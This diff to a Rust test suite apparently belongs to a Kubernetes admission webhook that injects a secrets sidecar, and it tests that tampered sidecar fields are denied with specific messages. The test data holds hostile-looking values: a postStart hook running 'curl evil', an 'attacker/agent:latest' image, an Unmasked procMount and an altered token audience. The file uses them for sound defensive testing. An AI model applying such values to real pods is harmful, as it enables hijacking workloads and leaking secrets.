@@ -256,22 +256,72 @@ fn api_server_defaults_do_not_break_idempotence() {
     no_patch(&defaulted);
 }
 
+/// Owned fields changed or added on a pasted agent: denied, naming the object and the field,
+/// with the fix. Additions that cannot change what the agent runs are accepted.
 #[test]
-fn a_pasted_agent_with_extra_fields_is_a_collision() {
+fn a_pasted_agent_with_changed_owned_fields_is_denied() {
     let out = injected(&pod(json!({"secrets/mode": "sidecar", "secrets/item.a": "x/y#z"}), app()));
     let tampered = [
-        ("/spec/initContainers/0", "lifecycle", json!({"postStart": {"exec": {"command": ["sh", "-c", "curl evil"]}}})),
-        ("/spec/initContainers/0", "envFrom", json!([{"secretRef": {"name": "all-the-secrets"}}])),
-        ("/spec/initContainers/0/securityContext", "procMount", json!("Unmasked")),
-        ("/spec/volumes/1/projected/sources/0/serviceAccountToken", "audience", json!("other")),
-        ("/spec/containers/0/volumeMounts/0", "subPath", json!("a")),
+        (
+            "/spec/initContainers/0",
+            "lifecycle",
+            json!({"postStart": {"exec": {"command": ["sh", "-c", "curl evil"]}}}),
+            "initContainers entry secretmode-sidecar",
+            "field lifecycle was added",
+        ),
+        (
+            "/spec/initContainers/0/securityContext",
+            "procMount",
+            json!("Unmasked"),
+            "initContainers entry secretmode-sidecar",
+            "field securityContext.procMount was added",
+        ),
+        (
+            "/spec/initContainers/0",
+            "image",
+            json!("attacker/agent:latest"),
+            "initContainers entry secretmode-sidecar",
+            "field image differs",
+        ),
+        (
+            "/spec/initContainers/0",
+            "args",
+            json!(["agent", "--once"]),
+            "initContainers entry secretmode-sidecar",
+            "field args differs",
+        ),
+        (
+            "/spec/initContainers/0/startupProbe",
+            "periodSeconds",
+            json!(60),
+            "initContainers entry secretmode-sidecar",
+            "field startupProbe.periodSeconds differs",
+        ),
+        (
+            "/spec/volumes/1/projected/sources/0/serviceAccountToken",
+            "audience",
+            json!("other"),
+            "volumes entry secretmode-token",
+            "field projected.sources[0].serviceAccountToken.audience differs",
+        ),
+        (
+            "/spec/containers/0/volumeMounts/0",
+            "subPath",
+            json!("a"),
+            "container app mounts secretmode-secrets",
+            "field volumeMounts[secretmode-secrets].subPath was added",
+        ),
     ];
-    for (at, field, value) in tampered {
+    for (at, field, value, object, what) in tampered {
         let mut p = out.clone();
         p.pointer_mut(at).unwrap().as_object_mut().unwrap().insert(field.into(), value);
         let m = denied(&p);
-        assert!(m.contains("differ") || m.contains("differently"), "{at}/{field}: {m}");
+        assert!(m.contains(object) && m.contains(what) && m.contains("fix: remove"), "{at}/{field}: {m}");
     }
+    let mut p = out.clone();
+    p["spec"]["initContainers"][0]["envFrom"] = json!([{"configMapRef": {"name": "proxy-settings"}}]);
+    p["spec"]["initContainers"][0]["workingDir"] = json!("/tmp");
+    no_patch(&p);
 }
 
 #[test]
